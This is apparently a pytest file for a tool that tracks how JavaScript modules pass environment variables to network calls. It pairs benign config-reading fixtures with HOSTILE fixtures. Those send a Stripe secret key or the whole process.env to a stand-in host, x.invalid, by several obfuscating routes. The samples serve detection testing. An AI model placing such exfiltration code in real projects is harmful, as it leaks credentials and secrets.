"""JavaScript: settings that one module reads from the environment, and another one asks for by their names."""

from __future__ import annotations

import pytest
from support.variables import assert_all_are_sent, assert_one_is_read

ZOD = "import { z } from 'zod';\n"
REQUIRED = "const { z } = require('zod');\n"
ASK = "fetch(`${env.BILLING_URL}/x`, {headers: {'x-api-token': env.BILLING_TOKEN}});\n"
HONEST: dict[str, dict[str, str]] = {
    "two files": {
        "config.ts": ZOD
        + (
            "const S = z.object({BILLING_URL: z.string(), BILLING_TOKEN: z.string()});\n"
            "export const getConfig = () => S.parse(process.env);\n"
        ),
        "a.ts": (
            "import { getConfig } from './config.js';\n"
            "await fetch(`${getConfig().BILLING_URL}/x`, {headers: {auth: getConfig().BILLING_TOKEN}});\n"
        ),
    },
    "two files const": {
        "config.ts": ZOD
        + (
            "const S = z.object({BILLING_URL: z.string(), BILLING_TOKEN: z.string()});\n"
            "export const env = S.parse(process.env);\n"
        ),
        "a.ts": "import { env } from './config.js';\n" + ASK,
    },
    "two files local const": {
        "config.ts": ZOD
        + (
            "const S = z.object({BILLING_URL: z.string(), BILLING_TOKEN: z.string()});\n"
            "export const getConfig = () => S.parse(process.env);\n"
        ),
        "a.ts": "import { getConfig } from './config.js';\nconst env = getConfig();\n" + ASK,
    },
    "class2 files": {
        "config.ts": ZOD
        + (
            "const S = z.object({BILLING_URL: z.string()});\n"
            "let cached: z.infer<typeof S> | null = null;\nexport function config() {\n"
            "  if (!cached) cached = S.parse(process.env);\n  return cached;\n}\n"
        ),
        "a.ts": "import { config } from './config';\nawait fetch(`${config().BILLING_URL}/x`);\n",
    },
    "default export": {
        "config.ts": ZOD
        + ("const S = z.object({BILLING_URL: z.string()});\nconst env = S.parse(process.env);\nexport default env;\n"),
        "a.ts": "import env from './config';\nawait fetch(`${env.BILLING_URL}/x`);\n",
    },
    "cjs": {
        "config.js": REQUIRED
        + ("const S = z.object({BILLING_URL: z.string()});\nmodule.exports = { env: S.parse(process.env) };\n"),
        "a.js": "const { env } = require('./config');\nfetch(`${env.BILLING_URL}/x`);\n",
    },
    "cjs whole": {
        "config.js": REQUIRED
        + "const S = z.object({BILLING_URL: z.string()});\nmodule.exports = S.parse(process.env);\n",
        "a.js": "const env = require('./config');\nfetch(`${env.BILLING_URL}/x`);\n",
    },
    "picked": {
        "config.ts": ZOD
        + (
            "const S = z.object({BILLING_URL: z.string(), T: z.string()});\n"
            "const e = S.parse(process.env);\nexport const config = { url: e.BILLING_URL, t: e.T };\n"
        ),
        "a.ts": ("import { config } from './config';\nawait fetch(`${config.url}/x`, {headers: {t: config.t}});\n"),
    },
}
HOSTILE: dict[str, dict[str, str]] = {
    "secret by name 2 files": {
        "config.ts": ZOD
        + (
            "const S = z.object({STRIPE_SECRET_KEY: z.string()});\n"
            "export const getConfig = () => S.parse(process.env);\n"
        ),
        "a.ts": (
            "import { getConfig } from './config.js';\n"
            "await fetch(`https://x.invalid/?${getConfig().STRIPE_SECRET_KEY}`);\n"
        ),
    },
    "whole 2 files": {
        "config.ts": ZOD
        + (
            "const S = z.object({STRIPE_SECRET_KEY: z.string()});\n"
            "export const getConfig = () => S.parse(process.env);\n"
        ),
        "a.ts": (
            "import { getConfig } from './config.js';\n"
            "await fetch(`https://x.invalid/`, {method: 'POST', body: JSON.stringify(getConfig())});\n"
        ),
    },
    "reshaped 2 files": {
        "config.ts": ZOD
        + (
            "const S = z.object({A: z.string()}).passthrough().transform((e) => ({URL: "
            "JSON.stringify(e)}));\nexport const getConfig = () => S.parse(process.env);\n"
        ),
        "a.ts": ("import { getConfig } from './config.js';\nawait fetch(`https://x.invalid/?` + getConfig().URL);\n"),
    },
    "reshaped fn 2 files": {
        "config.ts": "export const getConfig = () => ({URL: JSON.stringify(process.env)});\n",
        "a.ts": ("import { getConfig } from './config.js';\nawait fetch(`https://x.invalid/?` + getConfig().URL);\n"),
    },
    "put 3 files": {
        "config.ts": ZOD + "const S = z.object({URL: z.string()});\nexport const env = S.parse(process.env);\n",
        "c.ts": "import { env } from './config.js';\nenv.URL = JSON.stringify(process.env);\n",
        "a.ts": (
            "import './c.js';\nimport { env } from './config.js';\nawait fetch(`https://x.invalid/?` + env.URL);\n"
        ),
    },
    "two files entries": {
        "config.ts": ZOD
        + ("const S = z.object({BILLING_URL: z.string()}).passthrough();\nexport const env = S.parse(process.env);\n"),
        "a.ts": (
            "import { env } from './config';\nlet t = '';\n"
            "for (const k of Object.keys(env)) t += env[k];\nawait fetch('https://x.invalid/?' + t);\n"
        ),
    },
    "two files box": {
        "config.ts": ZOD
        + (
            "const S = z.object({BILLING_URL: z.string()}).passthrough();\n"
            "export const config = { env: S.parse(process.env) };\n"
        ),
        "a.ts": (
            "import { config } from './config';\n"
            "await fetch('https://x.invalid/', {method: 'POST', body: JSON.stringify(config.env)});\n"
        ),
    },
    "two files star": {
        "config.ts": "export const env = process.env;\n",
        "a.ts": (
            "import * as c from './config';\n"
            "await fetch('https://x.invalid/', {method: 'POST', body: JSON.stringify(c.env)});\n"
        ),
    },
    "two files call star": {
        "config.ts": "export const load = () => ({ env: process.env });\n",
        "a.ts": (
            "import * as c from './config';\n"
            "await fetch('https://x.invalid/', {method: 'POST', body: JSON.stringify(c.load().env)});\n"
        ),
    },
}


@pytest.mark.parametrize("name", HONEST)
def test_one_variable_by_its_name_is_no_more_than_that(name: str) -> None:
    assert_one_is_read(HONEST[name])


@pytest.mark.parametrize("name", HOSTILE)
def test_all_variables_under_one_name_are_all_of_them(name: str) -> None:
    assert_all_are_sent(HOSTILE[name])
